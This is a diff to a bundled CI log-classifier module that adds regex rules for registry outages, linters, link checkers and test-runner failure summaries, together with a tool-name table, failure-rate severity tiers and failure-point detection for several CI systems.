+                'ERROR [launcher]: ChromeHeadless failed 2 times (timeout). Giving up.',
+            ],
+            noMatch: ['Executed 12 of 12 SUCCESS (0.3 secs / 0.2 secs)', 'Connected on socket abc with id 123'],
+        },
+    },
+    {
+        // Package registries answering 5xx or dropping the connection, per their clients' documented codes:
+        // npm (docs.npmjs.com/common-errors: E500/E502/E503/E504), pip (urllib3's
+        // ReadTimeoutError / ProtocolError), Gradle ("Received status code 5xx from server").
+        id: 'infrastructure/registry-5xx',
+        category: 'infrastructure',
+        subcategory: 'registry-outage',
+        pattern: /npm ERR! code (E50[0234]|ECONNABORTED|ERR_SOCKET_TIMEOUT)\b|ReadTimeoutError\(?"?HTTPSConnectionPool|urllib3\.exceptions\.(ReadTimeoutError|ProtocolError)|Received status code 5\d\d from server|Could not (GET|HEAD) '[^']+'\. Received status code 5\d\d/i,
+        weight: 0.85,
+        keywords: ['npm err!', 'readtimeouterror', 'urllib3.exceptions', 'received status code 5'],
+        transient: true,
+        examples: {
+            match: [
+                'npm ERR! code E503',
+                "pip._vendor.urllib3.exceptions.ReadTimeoutError: HTTPSConnectionPool(host='files.pythonhosted.org', port=443): Read timed out.",
+                "Could not GET 'https://repo.maven.apache.org/maven2/x.pom'. Received status code 502 from server: Bad Gateway",
+            ],
+            noMatch: ['npm ERR! code E404', 'npm ERR! code ELIFECYCLE'],
+        },
+    },
+];
+
 ;// CONCATENATED MODULE: ./packages/core/src/classify/rules/performance.ts
 /** Resources ran out or a budget was exceeded: disk, memory, time, size, benchmarks. */
 const performanceRules = [
@@ -12216,6 +16073,114 @@ const qualityRules = [
     },
 ];
 
+;// CONCATENATED MODULE: ./packages/core/src/classify/rules/quality-tools.ts
+/** Linters, formatters, doc-coverage and link checkers outside the JavaScript world, in their own output formats. */
+const qualityToolRules = [
+    {
+        // markdownlint (github.com/DavidAnson/markdownlint doc/Rules.md: MD001…MD059 with their aliases),
+        // as markdownlint-cli prints it (`file:line[:col] MDnnn/alias Description`) and mdl (`file:line: MDnnn …`).
+        id: 'quality/markdownlint',
+        category: 'quality',
+        subcategory: 'lint',
+        pattern: /\S+\.(md|markdown):\d+(:\d+)?:? (error )?MD\d{3}(\/[\w-]+)* /i,
+        weight: 0.9,
+        keywords: ['.md:', '.markdown:'],
+        examples: {
+            match: [
+                'README.md:12 MD040/fenced-code-language Fenced code blocks should have a language specified [Context: "```"]',
+                'docs/intro.md:3:81 MD013/line-length Line length [Expected: 80; Actual: 95]',
+                'README.md:7: MD009 Trailing spaces',
+                'CHANGELOG.md:1 error MD041/first-line-heading/first-line-h1 First line in a file should be a top-level heading',
+            ],
+            noMatch: ['Writing README.md:12 bytes', 'see MD040 in the docs'],
+        },
+    },
+    {
+        // stylelint's string formatter (`line:col  ✖  message  rule-name`), sass-lint / scss-lint output
+        // (`file:line [W|E] Rule: message`), and stylelint's summary.
+        id: 'quality/style-lint',
+        category: 'quality',
+        subcategory: 'lint',
+        pattern: /^\s*\d+:\d+\s+[✖×⚠]\s+.+\s{2,}[a-z]+(-[a-z]+)+$|\S+\.(s?css|sass|less):\d+(:\d+)? \[[WE]\] \w+: |\b\d+ problems? \(\d+ errors?, \d+ warnings?\)/,
+        weight: 0.85,
+        keywords: ['✖', '×', '⚠', '.css:', '.scss:', '.sass:', '.less:', 'problem'],
+        examples: {
+            match: [
+                ' 3:12  ✖  Unexpected invalid hex color "#ababa"   color-no-invalid-hex',
+                'app/styles/main.scss:14 [W] Indentation: Line should be indented 2 spaces, but was indented 4 spaces',
+                '✖ 4 problems (4 errors, 0 warnings)',
+            ],
+            noMatch: ['compiled main.scss in 0.2s', '0 problems'],
+        },
+    },
+    {
+        // editorconfig-checker (github.com/editorconfig-checker/editorconfig-checker, pkg/validation messages)
+        // and eclint's "invalid indentation" wording.
+        id: 'quality/editorconfig',
+        category: 'quality',
+        subcategory: 'format',
+        pattern: /Wrong amount of left-padding spaces|Wrong indent style found|Wrong indentation type|Trailing whitespace$|Wrong line endings or (new )?final newline|Line too long \(\d+ instead of \d+\)|\d+ errors? found$|invalid indent(ation|_style|_size)|editorconfig.*(violation|failed)/i,
+        weight: 0.8,
+        keywords: [
+            'wrong amount',
+            'wrong indent',
+            'trailing whitespace',
+            'wrong line endings',
+            'line too long',
+            'errors found',
+            'error found',
+            'invalid indent',
+            'editorconfig',
+        ],
+        examples: {
+            match: [
+                '\t12: Wrong amount of left-padding spaces(want multiple of 2)',
+                '\t3: Wrong indent style found (tabs instead of spaces)',
+                '4 errors found',
+                '\t9: Trailing whitespace',
+            ],
+            noMatch: ['0 files checked', 'trailing whitespace removed by formatter'],
+        },
+    },
+    {
+        // Documentation coverage: jazzy ("N% documentation coverage with M undocumented symbols"), inch,
+        // interrogate ("RESULT: FAILED (minimum: 80.0%, actual: 50.0%)"), and "undocumented" reports.
+        id: 'quality/doc-coverage',
+        category: 'quality',
+        subcategory: 'docs',
+        pattern: /\d+% documentation coverage with [1-9]\d* undocumented|RESULT: FAILED \(minimum: [\d.]+%, actual: [\d.]+%\)|documentation coverage .*(below|less than|under) |[1-9]\d* undocumented (symbols?|methods?|classes?)/i,
+        weight: 0.8,
+        keywords: ['documentation coverage', 'result: failed', 'undocumented'],
+        examples: {
+            match: ['87% documentation coverage with 12 undocumented symbols', 'RESULT: FAILED (minimum: 80.0%, actual: 62.5%)', 'found 3 undocumented methods'],
+            noMatch: ['100% documentation coverage with 0 undocumented symbols', 'RESULT: PASSED (minimum: 80.0%, actual: 92.0%)'],
+        },
+    },
+    {
+        // Link checkers on docs and READMEs: markdown-link-check (`[✖] url → Status: 404`, `ERROR: N dead
+        // links found!`), lychee (`[404] url`, `✗ [ERR]`), html-proofer (`HTML-Proofer found N failures!`,
+        // `External link … failed: 404`), awesome_bot (`Issues :-(` then `1. [L012] 404 url`), linkchecker.
+        id: 'quality/link-check',
+        category: 'quality',
+        subcategory: 'links',
+        pattern: /\[✖\] \S+ → Status: \d+|ERROR: [1-9]\d* dead links? found|HTML-Proofer found [1-9]\d* failures?|External link \S+ failed|internally linking to \S+, which does not exist|^\s*\d+\. \[L\d+\] (\d{3}|Error|Timeout)\b|^Issues :-\(|^\s*[✗✖] \[(\d{3}|ERR|TIMEOUT)\] \S+|^\[(4\d\d|5\d\d)\] https?:\/\/|[1-9]\d* (broken|dead) links? found/i,
+        weight: 0.85,
+        keywords: ['[✖]', 'dead link', 'html-proofer', 'external link', 'internally linking', '[l', 'issues :-(', '✗ [', '✖ [', '] http', 'broken link'],
+        examples: {
+            match: [
+                '  [✖] https://example.com/gone → Status: 404',
+                'ERROR: 2 dead links found!',
+                'HTML-Proofer found 3 failures!',
+                '  *  External link https://example.com/x failed: 404 No error',
+                '1. [L021] 404 https://example.com/removed',
+                'Issues :-(',
+                '✗ [404] https://example.com/missing | Failed: Network error: Not Found',
+            ],
+            noMatch: ['[✓] https://example.com → Status: 200', 'HTML-Proofer finished successfully.', 'ERROR: 0 dead links found!'],
+        },
+    },
+];
+
 ;// CONCATENATED MODULE: ./packages/core/src/classify/rules/security.ts
 /** Scanners that found a vulnerable dependency, a leaked secret or a policy violation. */
 const securityRules = [
@@ -12227,6 +16192,8 @@ const securityRules = [
         weight: 0.9,
         keywords: ['vulnerabilit', 'npm audit', 'severity: '],
         severity: 'high',
+        // `npm install` prints the same count and exits 0 (docs.npmjs.com/cli/commands/npm-audit).
+        informational: true,
         examples: {
             match: ['found 3 vulnerabilities (1 moderate, 2 high)', '2 critical severity vulnerabilities', 'Severity: critical'],
             noMatch: ['found 0 vulnerabilities', 'audited 1200 packages'],
@@ -12282,6 +16249,84 @@ const securityRules = [
         keywords: ['licen'],
         severity: 'medium',
         examples: { match: ['License policy violation: GPL-3.0 in pkg'], noMatch: ['MIT license'] },
+    },
+];
+
+;// CONCATENATED MODULE: ./packages/core/src/classify/rules/test-summaries.ts
+/** Test runners' own failure summaries and assertion messages that testing.ts does not know yet. */
+const testSummaryRules = [
+    {
+        // A summary says that tests failed, not why: below a cause line in the same block (weight 0.7).
+        // testthat's summaries (r-lib/testthat R/reporter-progress.R: `[ FAIL 1 | WARN 0 | SKIP 0 | PASS 9 ]`;
+        // older versions `[ OK: 796 | SKIPPED: 0 | WARNINGS: 0 | FAILED: 1 ]`), CTest's `N% tests passed, M
+        // tests failed out of T`, prove's `Result: FAIL`, PHP run-tests' `FAILED TEST SUMMARY`/`Tests failed :`,
+        // NUnit/xUnit/dotnet test `Failed!  - Failed: N`, ExUnit `N tests, M failures`, Criterion `Synthesis: … Failing: N`.
+        id: 'testing/harness-summary',
+        category: 'testing',
+        subcategory: 'test-failure',
+        pattern: /\[ FAIL [1-9]\d* \||\| FAILED: [1-9]\d* \]|tests passed, [1-9]\d* tests? failed out of \d+|^Result: FAIL$|^FAILED TEST SUMMARY$|^Tests failed\s*:\s*[1-9]|Failed!\s+- Failed:\s+[1-9]|\d+ (tests|properties|doctests)(, \d+ \w+)*, [1-9]\d* failures?|Synthesis: Tested: \d+ \| Passing: \d+ \| Failing: [1-9]|Failed tests?:\s+[1-9]|^Failed Tests? Summary/,
+        weight: 0.7,
+        keywords: [
+            '[ fail',
+            '| failed:',
+            'tests failed out of',
+            'result: fail',
+            'failed test summary',
+            'tests failed',
+            'failed!',
+            'failure',
+            'failing:',
+            'failed test',
+        ],
+        examples: {
+            match: [
+                '[ FAIL 1 | WARN 0 | SKIP 2 | PASS 41 ]',
+                '[ OK: 796 | SKIPPED: 0 | WARNINGS: 0 | FAILED: 1 ]',
+                '95% tests passed, 1 tests failed out of 20',
+                'Result: FAIL',
+                'FAILED TEST SUMMARY',
+                'Tests failed    :    2 (  0.1%) (  0.1%)',
+                'Failed!  - Failed:     1, Passed:    41, Skipped:     0, Total:    42, Duration: 2 s',
+                '12 tests, 1 failure',
+                '[====] Synthesis: Tested: 8 | Passing: 7 | Failing: 1 | Crashing: 0',
+            ],
+            noMatch: ['[ FAIL 0 | WARN 0 | SKIP 0 | PASS 9 ]', '100% tests passed, 0 tests failed out of 20', '12 tests, 0 failures', 'Result: PASS'],
+        },
+    },
+    {
+        // Assertion wording of runners testing.ts does not cover: ExUnit (`Assertion with == failed`),
+        // Criterion/CUnit (`Assertion failed: …`), Catch2 (`REQUIRE( … )` `with expansion`), GoogleTest
+        // (`Expected equality of these values:`, `[  FAILED  ]`), Boost.Test (`error: in "suite/case": check … has failed`).
+        id: 'testing/assertion-catalogue',
+        category: 'testing',
+        subcategory: 'assertion',
+        pattern: /Assertion with [=!<>~]+ failed|^\s*Expected equality of these values:|^\[ {2}FAILED {2}\] \S+|error: in "[^"]+": check .* has failed|^\S+:\d+: FAILED:$|\*\* \(ExUnit\.AssertionError\)/,
+        weight: 0.85,
+        keywords: ['assertion with', 'expected equality', '[  failed  ]', 'has failed', 'failed:', 'exunit.assertionerror'],
+        examples: {
+            match: [
+                '     Assertion with == failed',
+                '  Expected equality of these values:',
+                '[  FAILED  ] MathTest.Adds (0 ms)',
+                'test.cpp(12): error: in "suite/adds": check add(1, 1) == 3 has failed [2 != 3]',
+                '** (ExUnit.AssertionError)',
+            ],
+            noMatch: ['[       OK ] MathTest.Adds (0 ms)', 'check passed'],
+        },
+    },
+    {
+        // A compiler's or language's own test suite reports a case whose compilation failed (e.g. Rust's
+        // compiletest, GHC's testsuite, `[compilation failed]` result tags): a failing test, not a broken build.
+        id: 'testing/compile-test-case',
+        category: 'testing',
+        subcategory: 'test-failure',
+        pattern: /\[compilation failed\]|\bcompile-fail test .* failed|^\s*\[(ui|compile-fail|run-pass|run-fail)\] \S+ .*FAILED|Unexpected failures:$/i,
+        weight: 0.8,
+        keywords: ['[compilation failed]', 'compile-fail', '[ui]', '[run-pass]', '[run-fail]', 'unexpected failures:'],
+        examples: {
+            match: ['test/run/closures.t [compilation failed]', 'Unexpected failures:', '[ui] tests/ui/borrowck/issue-1.rs ... FAILED'],
+            noMatch: ['compilation finished', 'Unexpected passes:'],
+        },
     },
 ];
 
@@ -12440,15 +16485,21 @@ const testingRules = [
 
 
 
+
+
+
 /** The built-in rule pack, one file per category. */
 const BUILTIN_RULES = [
     ...securityRules,
     ...qualityRules,
+    ...qualityToolRules,
     ...performanceRules,
     ...dependencyRules,
     ...testingRules,
+    ...testSummaryRules,
     ...buildRules,
     ...infrastructureRules,
+    ...networkCatalogueRules,
     ...genericRules,
 ];
 
@@ -12492,6 +16543,21 @@ function defaultRuleSet() {
     return (defaultSet ??= new RuleSet());
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/classify/rate-tiers.ts
+const DEFAULT_FAILURE_RATE_TIERS = { min_runs: 4, critical: 0.5, high: 0.3, medium: 0.15 };
+/** The severity the failure rate alone calls for, or undefined when it calls for none. */
+function rateTierSeverity(history, tiers = DEFAULT_FAILURE_RATE_TIERS) {
+    if (!history || history.runs < tiers.min_runs)
+        return undefined;
+    if (history.failureRate >= tiers.critical)
+        return 'critical';
+    if (history.failureRate >= tiers.high)
+        return 'high';
+    if (history.failureRate >= tiers.medium)
+        return 'medium';
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/classify/verdict.ts
 /**
  * The verdict failure-classify produces and recover/notify act on: the contract between the links of
@@ -12506,12 +16572,14 @@ const SEVERITIES = ['critical', 'high', 'medium', 'low'];
 
 
 
+
 const CLASSIFY_DEFAULTS = {
     confidence_threshold: 0.5,
     history_window_hours: 24,
     max_log_bytes: 64 * 1024 * 1024,
     disable_rules: [],
     rules: [],
+    failure_rate: DEFAULT_FAILURE_RATE_TIERS,
 };
 /** Turns the user's rules into ClassifyRule objects; a bad pattern names its place in the file. */
 function userRules(config, file = '.github/closed-loop.yml') {
@@ -12545,13 +16613,322 @@ function ruleSetFor(config, file) {
     return new RuleSet(userRules(config, file), config.disable_rules);
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/classify/tools.ts
+const TOOL_TABLE = [
+    {
+        category: 'security',
+        subcategory: 'vulnerable-dependency',
+        tools: [
+            'npm audit',
+            'yarn audit',
+            'pnpm audit',
+            'bundle audit',
+            'bundler-audit',
+            'pip-audit',
+            'safety check',
+            'cargo audit',
+            'cargo deny',
+            'trivy',
+            'snyk',
+            'grype',
+            'osv-scanner',
+            'gitleaks',
+            'trufflehog',
+            'detect-secrets',
+            'govulncheck',
+            'dependency-check',
+        ],
+    },
+    {
+        category: 'quality',
+        subcategory: 'lint',
+        tools: [
+            // JavaScript / CSS / Markdown
+            'eslint',
+            'tslint',
+            'jshint',
+            'jscs',
+            'standard',
+            'xo',
+            'prettier',
+            'stylelint',
+            'sass-lint',
+            'scss-lint',
+            'scss_lint',
+            'csslint',
+            'markdownlint',
+            'markdownlint-cli',
+            'markdownlint-cli2',
+            'mdl',
+            'remark',
+            'textlint',
+            'alex',
+            'awesome-lint',
+            'commitlint',
+            // Python
+            'flake8',
+            'pycodestyle',
+            'pep8',
+            'pydocstyle',
+            'pylint',
+            'black',
+            'isort',
+            'ruff',
+            'mypy',
+            'pyright',
+            'bandit',
+            'codespell',
+            // Ruby, PHP, Go, Rust, JVM, Swift, C/C++, shell, YAML, Docker
+            'rubocop',
+            'standardrb',
+            'phpcs',
+            'php-cs-fixer',
+            'phpstan',
+            'psalm',
+            'gofmt',
+            'goimports',
+            'golint',
+            'golangci-lint',
+            'go vet',
+            'staticcheck',
+            'clippy',
+            'cargo clippy',
+            'rustfmt',
+            'cargo fmt',
+            'checkstyle',
+            'spotless',
+            'ktlint',
+            'detekt',
+            'pmd',
+            'spotbugs',
+            'scalafmt',
+            'scalastyle',
+            'swiftlint',
+            'swiftformat',
+            'clang-format',
+            'clang-tidy',
+            'cpplint',
+            'cppcheck',
+            'shellcheck',
+            'shfmt',
+            'yamllint',
+            'hadolint',
+            'actionlint',
+            // Whitespace, docs and links
+            'editorconfig-checker',
+            'eclint',
+            'jazzy',
+            'inch',
+            'sphinx-build',
+            'doc8',
+            'htmlproofer',
+            'html-proofer',
+            'htmlhint',
+            'lychee',
+            'markdown-link-check',
+            'awesome_bot',
+            'linkchecker',
+            'muffet',
+            // Step and script names
+            'lint',
+            'linter',
+            'linting',
+            'check-format',
+            'format-check',
+            'fmt-check',
+            'checkstyle:check',
+            'style',
+            'code style',
+            'codestyle',
+            'static analysis',
+        ],
+    },
+    {
+        category: 'testing',
+        subcategory: 'test-failure',
+        tools: [
+            'jest',
+            'mocha',
+            'karma',
+            'jasmine',
+            'vitest',
+            'ava',
+            'tap',
+            'tape',
+            'cypress',
+            'playwright',
+            'protractor',
+            'qunit',
+            'pytest',
+            'py.test',
+            'nosetests',
+            'unittest',
+            'tox',
+            'nox',
+            'trial',
+            'go test',
+            'cargo test',
+            'cargo nextest',
+            'rspec',
+            'minitest',
+            'rake test',
+            'rake spec',
+            'cucumber',
+            'phpunit',
+            'run-tests.php',
+            'codeception',
+            'behat',
+            'mvn test',
+            'mvn verify',
+            'surefire',
+            'failsafe',
+            'gradle test',
+            'gradlew test',
+            'gradle check',
+            'gradlew check',
+            'sbt test',
+            'dotnet test',
+            'xunit',
+            'nunit',
+            'vstest',
+            'mix test',
+            'testthat',
+            'ctest',
+            'prove',
+            'busted',
+            'stack test',
+            'cabal test',
+            'swift test',
+            'xcodebuild test',
+            'flutter test',
+            'lein test',
+            'npm test',
+            'yarn test',
+            'pnpm test',
+            'npm run test',
+            'yarn run test',
+            'make test',
+            'make check',
+            'make tests',
+            'test',
+            'tests',
+            'unit test',
+            'unit tests',
+            'integration tests',
+            'run tests',
+            'run test',
+        ],
+    },
+    {
+        category: 'dependencies',
+        subcategory: 'install',
+        tools: [
+            'npm install',
+            'npm ci',
+            'yarn install',
+            'pnpm install',
+            'bower install',
+            'pip install',
+            'pipenv install',
+            'poetry install',
+            'conda install',
+            'bundle install',
+            'gem install',
+            'composer install',
+            'composer update',
+            'go mod download',
+            'go get',
+            'cargo fetch',
+            'mvn dependency:resolve',
+            'pod install',
+            'carthage',
+            'apt-get install',
+            'brew install',
+            'install dependencies',
+            'install deps',
+            'setup-r-dependencies',
+        ],
+    },
+    {
+        category: 'build',
+        subcategory: 'compile',
+        tools: [
+            'tsc',
+            'webpack',
+            'rollup',
+            'esbuild',
+            'vite build',
+            'npm run build',
+            'yarn build',
+            'cargo build',
+            'go build',
+            'mvn compile',
+            'mvn package',
+            'gradle build',
+            'gradlew build',
+            'gradle assemble',
+            'gradlew assemble',
+            'ant',
+            'cmake',
+            'ninja',
+            'msbuild',
+            'dotnet build',
+            'xcodebuild',
+            'javac',
+            'gcc',
+            'clang',
+            'make',
+            'jekyll build',
+            'hugo',
+            'docker build',
+            'build',
+            'compile',
+            'autobuild',
+        ],
+    },
+];
+const SEP = String.raw `[\s"'\`$(;&|=/]`;
+function tools_escape(s) {
+    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/ /g, '\\s+');
+}
+// One regular expression per row: a tool name between command separators.
+const COMPILED = TOOL_TABLE.map((row) => ({
+    row,
+    re: new RegExp(`(?:^|${SEP})(${[...row.tools]
+        .sort((a, b) => b.length - a.length)
+        .map(tools_escape)
+        .join('|')})(?=$|[\\s"'\`;&|)]|:\\S)`, 'i'),
+}));
+/** The kind of tool a failing command or step name runs, from the table; undefined when none is known. */
+function toolOf(command) {
+    for (const { row, re } of COMPILED) {
+        const m = re.exec(command);
+        if (m)
+            return { category: row.category, subcategory: row.subcategory, tool: m[1].toLowerCase() };
+    }
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/classify/decide.ts
+
+/** How much the tool that failed is worth on its own: a prior, below any specific message rule. */
+const TOOL_WEIGHT = 0.5;
+/** A line in the block that ends at the failing command. */
+const IN_BLOCK_BONUS = 0.15;
+/** A line of the same kind as the tool that failed. */
+const TOOL_AGREES_BONUS = 0.1;
+/** An informational line (an audit summary) decides nothing unless its own tool is the one that failed. */
+const INFORMATIONAL_WEIGHT = 0.3;
 /**
  * Picks the category whose best match scores highest: rule weight, plus a bonus for lines in the step
  * the runner marked failed, on `##[error]` lines, and late in the log (where jobs usually stop).
  */
 function decide(scan, options) {
-    const scored = scan.hits.flatMap((h) => (h.first === h.last ? [h.first] : [h.first, h.last])).map((hit) => score(hit, scan));
+    const tool = scan.failure ? (toolOf(scan.failure.command) ?? (scan.failure.step ? toolOf(scan.failure.step) : undefined)) : undefined;
+    const scored = scan.hits.flatMap((h) => (h.first === h.last ? [h.first] : [h.first, h.last])).map((hit) => score(hit, scan, tool));
+    const toolHit = tool && scan.failure ? toolCandidate(scan.failure, tool) : undefined;
+    if (toolHit)
+        scored.push(toolHit);
     const byCategory = new Map();
     for (const s of scored) {
         const list = byCategory.get(s.category) ?? [];
@@ -12571,39 +16948,58 @@ function decide(scan, options) {
         return fallback(scan, scored);
     const runnerUp = ranked[1]?.total ?? 0;
     const margin = Math.max(0, (top.total - runnerUp) / top.total);
-    const confidence = round(Math.min(1, top.best.weight) * (0.75 + 0.25 * margin));
+    const confidence = round(Math.min(1, top.best.weight + (top.best.hit.inBlock ? 0.1 : 0)) * (0.75 + 0.25 * margin));
     const hit = top.best.hit;
-    const evidence = evidenceOf(hit);
-    if (confidence < options.threshold) {
-        return {
-            category: 'unknown',
-            subcategory: top.best.subcategory,
-            confidence,
-            transient: false,
-            evidence,
-            errorLine: hit.text,
-            ...stepOf(hit, scan),
-            ruleId: hit.rule.id,
-        };
-    }
+    // A low-confidence verdict keeps its best category (abstaining says less than a weak guess with its
+    // confidence), but is never called transient: a re-run on weak evidence wastes a run.
+    const sure = confidence >= options.threshold;
     return {
         category: top.category,
         subcategory: top.best.subcategory,
         confidence,
-        transient: top.best.transient,
-        evidence,
+        transient: sure && top.best.transient,
+        evidence: evidenceOf(hit),
         errorLine: hit.text,
         ...stepOf(hit, scan),
         ruleId: hit.rule.id,
         ...(hit.rule.severity ? { ruleSeverity: hit.rule.severity } : {}),
     };
 }
-function score(hit, scan) {
+/** The failing command's tool as a candidate of its own: evidence is the block that ends there. */
+function toolCandidate(failure, tool) {
+    const rule = {
+        id: `tool/${tool.tool.replace(/\s+/g, '-')}`,
+        category: tool.category,
+        subcategory: tool.subcategory,
+        pattern: /$^/,
+        weight: TOOL_WEIGHT,
+        keywords: [],
+        examples: { match: [], noMatch: [] },
+    };
+    const hit = {
+        rule,
+        line: failure.line,
+        text: failure.text,
+        ...(failure.step !== undefined ? { step: failure.step } : {}),
+        errorMarker: false,
+        before: failure.before,
+        after: [],
+        testContext: false,
+        inBlock: true,
+    };
+    return { hit, score: TOOL_WEIGHT, category: tool.category, subcategory: tool.subcategory, weight: TOOL_WEIGHT, transient: false };
+}
+function score(hit, scan, tool) {
     const rule = hit.rule;
     // A "network" line inside a test's own output is that test failing, not the network.
     const demoted = !!rule.transient && hit.testContext && !rule.user;
-    const weight = demoted ? Math.min(rule.weight, 0.6) : rule.weight;
+    const quiet = !!rule.informational && !rule.user && tool?.category !== rule.category;
+    const weight = demoted ? Math.min(rule.weight, 0.6) : quiet ? Math.min(rule.weight, INFORMATIONAL_WEIGHT) : rule.weight;
     let s = weight + (rule.user ? 1 : 0);
+    if (hit.inBlock)
+        s += IN_BLOCK_BONUS;
+    if (tool && tool.category === (demoted ? 'testing' : rule.category))
+        s += TOOL_AGREES_BONUS;
     if (scan.failingStep !== undefined && hit.step === scan.failingStep)
         s += 0.1;
     if (hit.errorMarker)
@@ -12772,6 +17168,45 @@ async function splitLines(chunks, onLine, options = {}) {
     return { bytes, truncated };
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/classify/failure-point.ts
+const TRAVIS = /^The command "(.+)" (?:failed and )?exited with [1-9]\d*\.?$/;
+const GHA_EXIT = /^Process completed with exit code [1-9]/;
+const GITLAB = /^ERROR: Job failed: exit (?:code|status) [1-9]/;
+const JENKINS = /^Build step '(.+)' marked build as failure/;
+const MAKE = /^g?make(?:\[\d+\])?: \*\*\* \[(?:[^\]]*?: ?)?([^\]:\s]+)\] Error [1-9]\d*$/;
+const NPM_SCRIPT = /^npm ERR! (?:Failed at the \S+ ([\w:.-]+) script|Lifecycle script `([\w:.-]+)` failed)/;
+/** The failure point a cleaned line announces, if any; `errorMarker` is a GitHub `##[error]` line. */
+function failurePoint(text, errorMarker) {
+    const c = text.charCodeAt(0);
+    if (c === 84 /* T */) {
+        const m = TRAVIS.exec(text);
+        return m ? { command: m[1] } : undefined;
+    }
+    if (errorMarker && GHA_EXIT.test(text))
+        return { command: '' };
+    if (c === 69 /* E */)
+        return GITLAB.test(text) ? { command: '' } : undefined;
+    if (c === 66 /* B */) {
+        const m = JENKINS.exec(text);
+        return m ? { command: m[1] } : undefined;
+    }
+    if (c === 109 /* m */ || c === 103 /* g */) {
+        const m = MAKE.exec(text);
+        return m ? { command: `make ${m[1]}` } : undefined;
+    }
+    if (c === 110 /* n */) {
+        const m = NPM_SCRIPT.exec(text);
+        return m ? { command: `npm run ${(m[1] ?? m[2])}` } : undefined;
+    }
+    return undefined;
+}
+/** A line that starts a command: Travis echoes `$ cmd`, GitHub Actions opens a `Run …` group. */
+function commandStart(text) {
+    if (text.charCodeAt(0) === 36 /* $ */ && text.charCodeAt(1) === 32)
+        return text.slice(2);
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/classify/ring.ts
 /** A fixed-size buffer of the most recent items: the scanner's only memory of lines already read. */
 class Ring {
@@ -12803,6 +17238,7 @@ class Ring {
 
 
 
+
 // A test's own failure around a line: stack frames in test files, test runner failure markers, assertions.
 const TEST_CONTEXT = /^\s+at .*(Test|Spec|IT)\b|^\s+at .*[/\\](tests?|specs?|__tests__)[/\\]|^\s+at .*\.(test|spec)\.[cm]?[jt]sx?\b|File ".*(test_\w+|_test|tests?\/)[^"]*", line \d+|\w+_test\.go:\d+|\w+(Test|Tests|Spec)\.(java|kt|scala|php|cs|groovy):\d+|--- FAIL|\bFAIL: Test|AssertionError|Failure\/Error|<<< (FAILURE|ERROR)!|\bassert(Equals|True|That)?\(|Failed asserting/;
 /** A built-in transient rule's line inside a test's own failure is that test failing. */
@@ -12831,6 +17267,10 @@ class LogScanner {
     errorStep;
     /** Lines left of the `##[group]Run …` block that echoes a step's script and env: source, not output. */
     headerLines = 0;
+    /** Where the current command began (Travis `$ cmd`, a step's `Run …` group). */
+    blockStart = 0;
+    blockCommand = '';
+    failure;
     constructor(options = {}) {
         this.rules = options.rules ?? defaultRuleSet();
         this.beforeN = options.contextBefore ?? 3;
@@ -12856,17 +17296,50 @@ class LogScanner {
             if (line.step === undefined)
                 this.step = line.text;
             this.headerLines = MAX_STEP_HEADER;
+            this.startBlock(line.text.replace(/^(Post )?Run /, ''));
         }
         else if (line.marker === 'endgroup' || line.marker === 'group' || line.marker === 'error')
             this.headerLines = 0;
         else if (this.headerLines > 0)
             this.headerLines--;
+        if (line.step !== undefined && line.step !== this.blockCommand && this.failure === undefined && line.marker !== 'group')
+            this.startBlock(line.step);
+        if (this.failure === undefined) {
+            const started = commandStart(line.text);
+            if (started !== undefined)
+                this.startBlock(started);
+            else {
+                const point = failurePoint(line.text, line.marker === 'error');
+                if (point)
+                    this.fail(line.text, point.command || this.blockCommand || this.step || '');
+            }
+        }
         if (line.marker === 'error') {
             this.errorStep = this.step;
             if (/^Process completed with exit code [1-9]/.test(line.text))
                 this.exitStep ??= this.step;
         }
         this.keep(line);
+    }
+    startBlock(command) {
+        this.blockStart = this.n;
+        this.blockCommand = command;
+    }
+    /** The first failure point: mark every rule's latest match since the block began as in the block. */
+    fail(text, command) {
+        this.failure = {
+            line: this.n,
+            text,
+            command,
+            ...(this.step !== undefined ? { step: this.step } : {}),
+            before: this.recent.last(12),
+        };
+        for (const hits of this.byRule.values()) {
+            if (hits.last.line >= this.blockStart)
+                hits.last.inBlock = true;
+            if (hits.first.line >= this.blockStart)
+                hits.first.inBlock = true;
+        }
     }
     keep(line) {
         const kept = { n: this.n, text: line.text };
@@ -12899,6 +17372,8 @@ class LogScanner {
         const seen = this.byRule.get(rule.id);
         if (!seen)
             this.byRule.set(rule.id, { first: hit, last: hit, count: 1 });
+        else if (seen.last.inBlock)
+            seen.count++; // the failing block's match outranks any later one
         else {
             const index = this.open.indexOf(seen.last);
             if (seen.last !== seen.first && index >= 0)
@@ -12922,6 +17397,7 @@ class LogScanner {
             lines: this.n,
             ...(this.job !== undefined ? { job: this.job } : {}),
             ...(failingStep !== undefined ? { failingStep } : {}),
+            ...(this.failure ? { failure: this.failure } : {}),
             hits: [...this.byRule.values()],
             tail: this.recent.last(10),
         };
@@ -12982,6 +17458,7 @@ async function scan(chunks, options, keyOf) {
 
 ;// CONCATENATED MODULE: ./packages/core/src/classify/severity.ts
 
+
 const BASE = {
     security: 'high',
     build: 'high',
@@ -12994,17 +17471,21 @@ const BASE = {
 };
 /**
  * Severity from what broke, raised by history (keeps failing, fails often, on the default branch)
- * and lowered when a re-run is expected to fix it. Priority 1 (act now) … 4 (whenever).
+ * and lowered when a re-run is expected to fix it. The failure-rate tier is a floor: a workflow failing
+ * that often is that urgent whatever broke this time. Priority 1 (act now) … 4 (whenever).
  */
 function assessSeverity(input) {
     let level = SEVERITIES.indexOf(input.ruleSeverity ?? BASE[input.category]);
     const h = input.history;
-    if (h && (h.consecutiveFailures >= 3 || (h.runs >= 4 && h.failureRate >= 0.5)))
+    if (h && h.consecutiveFailures >= 3)
         level--;
     if (input.defaultBranch && input.category !== 'quality')
         level--;
     if (input.transient || input.flaky)
         level++;
+    const tier = rateTierSeverity(h, input.rateTiers);
+    if (tier)
+        level = Math.min(level, SEVERITIES.indexOf(tier));
     const clamped = Math.min(SEVERITIES.length - 1, Math.max(0, level));
     return { severity: SEVERITIES[clamped], priority: (clamped + 1) };
 }
@@ -13085,6 +17566,7 @@ function jobVerdict(job, input) {
         flaky: input.flaky,
         history: input.history,
